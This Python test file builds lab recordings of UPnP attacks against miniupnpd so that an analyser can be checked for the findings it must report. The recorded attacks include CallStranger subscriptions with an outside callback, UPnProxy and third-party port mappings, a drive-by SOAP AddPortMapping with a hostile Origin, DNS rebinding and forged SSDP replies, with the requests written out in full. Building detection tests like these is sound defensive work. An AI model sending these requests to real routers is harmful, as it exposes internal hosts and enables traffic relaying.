"""The recordings of the corpus: attacks on real software, and what of them must be found."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from tests.lab.daemons import IGD_LOCATION, IGD_PORT
from tests.lab.host import Host
from tests.lab.network import Network
from tests.lab.programs import LabError

__all__ = ["EFFECT", "RECORDINGS", "Find", "Recording"]

RELAY = "203.0.113.9"
OUTSIDE = "198.51.100.7"
CONTROL = f"http://192.168.77.1:{IGD_PORT}/ctl/IPConn"
EVENTS = f"http://192.168.77.1:{IGD_PORT}/evt/IPConn"
FORGER = Path(__file__).with_name("forger.py")
ROUTER, CLIENT, OTHER = "192.168.77.1", "192.168.77.10", "192.168.77.11"
POST = 'http.request.method == "POST" && http contains "'
ADD = f'{POST}AddPortMapping"'
EFFECT = "effect:"
"""Before a filter: its frames alone, which have no answer."""


class Find(NamedTuple):
    """A finding that must be there."""

    rule: str
    severity: str
    outcome: str
    subject: str
    filters: tuple[str, ...]


class Recording(NamedTuple):
    """What is recorded: a play on a network, and what of it must be found."""

    name: str
    rule: str
    made_by: str
    play: Callable[[Network], None]
    finds: tuple[Find, ...] = ()
    secure: bool = False


def upnpc(host: Host, *words: str, say: str = "") -> None:
    """Run upnpc; it must say something."""
    heard = host.run("upnpc", "-u", IGD_LOCATION, *words, check=False)
    if say not in heard:
        raise LabError(f"upnpc {' '.join(words)} did not say {say!r}:\n{heard}")


def curl(host: Host, *words: str, say: str) -> None:
    """Run curl; the status must be this."""
    command = ("curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", *words)
    heard = host.run(*command, check=False)
    if heard.strip() != say:
        raise LabError(f"curl {' '.join(words)} was told {heard!r}, not {say}")


def mapped(*words: str, say: str = "is redirected") -> Callable[[Network], None]:
    """One mapping, asked for by the client."""

    def play(network: Network) -> None:
        upnpc(network.client, "-a", *words, say=say)

    return play


def enumerate_mappings(network: Network) -> None:
    for number in range(6):
        port = str(9090 + number)
        upnpc(network.client, "-a", CLIENT, port, port, "TCP", "600", say="is redirected")
    upnpc(network.other, "-l", say="9095")


def tamper(network: Network) -> None:
    upnpc(network.client, "-a", CLIENT, "9090", "9090", "TCP", "600", say="is redirected")
    upnpc(network.other, "-d", "9090", "TCP", say="returned : 0")


def subscribe(callback: str, say: str) -> Callable[[Network], None]:
    def play(network: Network) -> None:
        fields = (f"CALLBACK: <{callback}>", "NT: upnp:event", "TIMEOUT: Second-300")
        words = [word for field in fields for word in ("-H", field)]
        curl(network.client, "-X", "SUBSCRIBE", *words, EVENTS, say=say)

    return play


def post(*fields: str, say: str = "200") -> Callable[[Network], None]:
    """AddPortMapping by curl, with header fields of a browser."""
    service = "urn:schemas-upnp-org:service:WANIPConnection:1"
    values = {
        "NewRemoteHost": "",
        "NewExternalPort": "9090",
        "NewProtocol": "TCP",
        "NewInternalPort": "9090",
        "NewInternalClient": CLIENT,
        "NewEnabled": "1",
        "NewPortMappingDescription": "upnpscapy-test",
        "NewLeaseDuration": "600",
    }
    inside = "".join(f"<{name}>{value}</{name}>" for name, value in values.items())
    body = (
        '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
        f'<u:AddPortMapping xmlns:u="{service}">{inside}</u:AddPortMapping></s:Body></s:Envelope>'
    )

    def play(network: Network) -> None:
        every = (f'SOAPAction: "{service}#AddPortMapping"', "Content-Type: text/xml", *fields)
        words = [word for field in every for word in ("-H", field)]
        curl(network.client, *words, "--data-binary", body, CONTROL, say=say)

    return play


def fooled(network: Network) -> None:
    """A control point searches, hears a forged reply too, and fetches what it names."""
    other = network.other
    location = f"http://{network.media.ipv4}:8080/root.xml"
    with other.start(sys.executable, str(FORGER), other.ipv4, location) as forger:
        forger.wait_until(lambda: "listening" in forger.output(), "it listens")
        network.client.run("upnpc", "-s", check=False)


SELF = (CLIENT, "9090", "9090", "TCP", "600")
RECORDINGS = (
    Recording(
        "third-party-mapping", "third-party-mapping",
        "`upnpc -a` for another host, against miniupnpd with `secure_mode=no`",
        mapped(OTHER, "9090", "9090", "TCP", "600"),
        (Find("third-party-mapping", "MEDIUM", "accepted", OTHER, (ADD,)),),
    ),
    Recording(
        "third-party-mapping-refused", "third-party-mapping",
        "`upnpc -a` for another host, against miniupnpd with `secure_mode=yes`",
        mapped(OTHER, "9090", "9090", "TCP", "600", say="718"),
        (Find("third-party-mapping", "LOW", "attempted", OTHER, (ADD,)),),
        True,
    ),
    Recording(
        "third-party-mapping-twin", "third-party-mapping",
        "`upnpc -a` for oneself, against miniupnpd with `secure_mode=no`", mapped(*SELF),
    ),
    Recording(
        "upnproxy-refused", "upnproxy",
        "`upnpc -a` for a host of the Internet, against miniupnpd, which allows local hosts only",
        mapped(RELAY, "9090", "9090", "TCP", "600", say="606"),
        (Find("upnproxy", "HIGH", "attempted", RELAY, (ADD,)),),
    ),
    Recording(
        "mapping-to-gateway", "mapping-to-gateway",
        "`upnpc -a` for the router, against miniupnpd with `secure_mode=no`",
        mapped(ROUTER, "9090", "9090", "TCP", "600"),
        (Find("mapping-to-gateway", "HIGH", "accepted", ROUTER, (ADD,)),),
    ),
    Recording(
        "sensitive-port-mapping", "sensitive-port-mapping",
        "`upnpc -a` for port 3389 of oneself, against miniupnpd",
        mapped(CLIENT, "3389", "3389", "TCP", "600"),
        (Find("sensitive-port-mapping", "HIGH", "accepted", CLIENT, (ADD,)),),
        True,
    ),
    Recording(
        "denied-mapping", "denied-mapping", "`upnpc -a` for port 80, against miniupnpd",
        mapped(CLIENT, "8080", "80", "TCP", "600", say="606"),
        (Find("denied-mapping", "INFO", "attempted", CLIENT, (ADD,)),),
        True,
    ),
    Recording(
        "portmap-enumeration", "portmap-enumeration",
        "`upnpc -a` of six ports, `upnpc -l` of another host, against miniupnpd",
        enumerate_mappings,
        (
            Find(
                "portmap-enumeration", "LOW", "accepted", ROUTER,
                (f'{POST}GetGenericPortMappingEntry"',),
            ),
        ),
        True,
    ),
    Recording(
        "mapping-tamper", "mapping-tamper",
        "`upnpc -a`, `upnpc -d` of another host, against miniupnpd with `secure_mode=no`",
        tamper,
        (
            Find(
                "mapping-tamper", "MEDIUM", "accepted", OTHER,
                (ADD, f'{POST}GetSpecificPortMappingEntry"', f'{POST}DeletePortMapping"'),
            ),
        ),
    ),
    Recording(
        "callstranger", "callstranger",
        "`curl -X SUBSCRIBE` with a CALLBACK of the Internet, against miniupnpd",
        subscribe(f"http://{OUTSIDE}/cb", "412"),
        (Find("callstranger", "HIGH", "attempted", ROUTER,
              ('http.request.method == "SUBSCRIBE"', f"{EFFECT}http.response.code == 412")),),
        True,
    ),
    Recording(
        "callstranger-twin", "callstranger",
        "`curl -X SUBSCRIBE` with a CALLBACK of oneself, against miniupnpd",
        subscribe(f"http://{CLIENT}:8080/cb", "200"), (), True,
    ),
    Recording(
        "drive-by-soap", "drive-by-soap",
        "`curl` with AddPortMapping and the Origin of a foreign page, against miniupnpd",
        post("Origin: http://evil.example"),
        (Find("drive-by-soap", "HIGH", "accepted", ROUTER, (ADD,)),),
        True,
    ),
    Recording(
        "drive-by-soap-twin", "drive-by-soap",
        "`curl` with AddPortMapping alone, against miniupnpd", post(), (), True,
    ),
    Recording(
        "dns-rebinding", "dns-rebinding",
        "`curl` with AddPortMapping and a Host that is a name, against miniupnpd",
        post("Host: rebind.example:5000", say="404"),
        (Find("dns-rebinding", "HIGH", "attempted", ROUTER, (ADD,)),),
        True,
    ),
    Recording(
        "location-mismatch", "location-mismatch",
        "`upnpc -s`, which hears a forged reply of another host (`tests/corpus/forger.py`) too,"
        " against miniupnpd",
        fooled,
        (
            Find(
                "location-mismatch", "MEDIUM", "effect", OTHER,
                (f'{EFFECT}ip.src == {OTHER} && ssdp && http.response.code == 200',
                 f"{EFFECT}tcp.dstport == 8080 && tcp.flags.syn == 1",
                 f"{EFFECT}tcp.srcport == 8080 && tcp.flags.syn == 1"),
            ),
        ),
        True,
    ),
)  # fmt: skip
